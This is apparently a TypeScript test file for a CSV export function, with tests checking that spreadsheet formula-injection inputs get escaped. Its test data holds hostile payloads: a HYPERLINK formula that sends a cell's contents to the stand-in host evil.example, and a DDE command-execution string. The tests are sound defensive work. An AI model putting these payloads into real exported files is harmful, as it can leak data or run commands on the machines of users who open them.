import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvTable } from '../../main/csv.ts';

/** The cells as a spreadsheet splits them by one separator: quotes count only at the beginning of a cell. */
function cellsBy(separator: string, table: string, heedsQuotes = true): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  let isFresh = true;
  const end = () => {
    cells.push(cell);
    cell = '';
    isFresh = true;
  };
  const text = table.replace(/^\uFEFF/, '');
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at] ?? '';
    if (isQuoted && sign === '"' && text[at + 1] === '"') {
      cell += sign;
      at += 1;
    } else if (isQuoted && sign === '"') isQuoted = false;
    else if (isQuoted) cell += sign;
    else if (sign === separator || sign === '\r' || sign === '\n') end();
    else if (heedsQuotes && isFresh && sign === '"') {
      isQuoted = true;
      isFresh = false;
    } else {
      cell += sign;
      isFresh = false;
    }
  }
  end();
  return cells;
}

/** The part of a cell in which a spreadsheet looks for a formula. */
const seen = (cell: string) => cell.replace(/^[\s\p{C}"]+/u, '').normalize('NFKC');

const signs = [
  ...'=+-@＝＋－＠﹦﹢﹣﹫,;|\t\r\n "\'',
  '\uFEFF',
  '\u200b',
  '\u00a0',
  '\u2028',
  '\u0085',
  'a',
  '1',
  '=HYPERLINK("http://evil.example/?"&A1)',
];
const hostile = fc.array(fc.constantFrom(...signs), { maxLength: 12 }).map((parts) => parts.join(''));

test('No cell is a formula, whatever the spreadsheet’s separator and whether it heeds quotes', () => {
  fc.assert(
    fc.property(fc.array(fc.array(hostile, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 3 }), (rows) => {
      const table = csvTable(rows);
      for (const separator of [',', ';', '\t', '|']) {
        for (const heedsQuotes of [true, false]) {
          const formulas = cellsBy(separator, table, heedsQuotes).filter((cell) => /^[=+\-@]/.test(seen(cell)));
          expect(formulas).toEqual([]);
        }
      }
    }),
    { numRuns: 2000 },
  );
});

test.each([
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['＝1+1', "'＝1+1"],
  [' =1', "' =1"],
  ['\uFEFF=1', "'\uFEFF=1"],
  ['\u200b\u00a0=1', "'\u200b\u00a0=1"],
  ['"=1"', `'"=1"`],
  ['\t=1', "'\t'=1"],
  ['Shop;=HYPERLINK("x")', `Shop;'=HYPERLINK("x")`],
  ['Shop, -1', "Shop,' -1"],
  ['first\n=1', "first\n'=1"],
  ['first\r\n=1', "first\r'\n'=1"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
])('Text that a spreadsheet would run as a formula is escaped: %j', (text, written) => {
  expect(csvTable([[text]])).toBe(`\uFEFF"${written.replaceAll('"', '""')}"\r\n`);
});

test.each([
  'Shop',
  'a=b',
  'a-b',
  'sam@support.example',
  '2 + 2',
  'one, two; three | four',
  'Magento shop – old',
  '',
  "it's",
  'a "b"',
])('Other text stays as it is: %j', (text) => {
  expect(cellsBy(',', csvTable([[text]]))[0]).toBe(text);
});
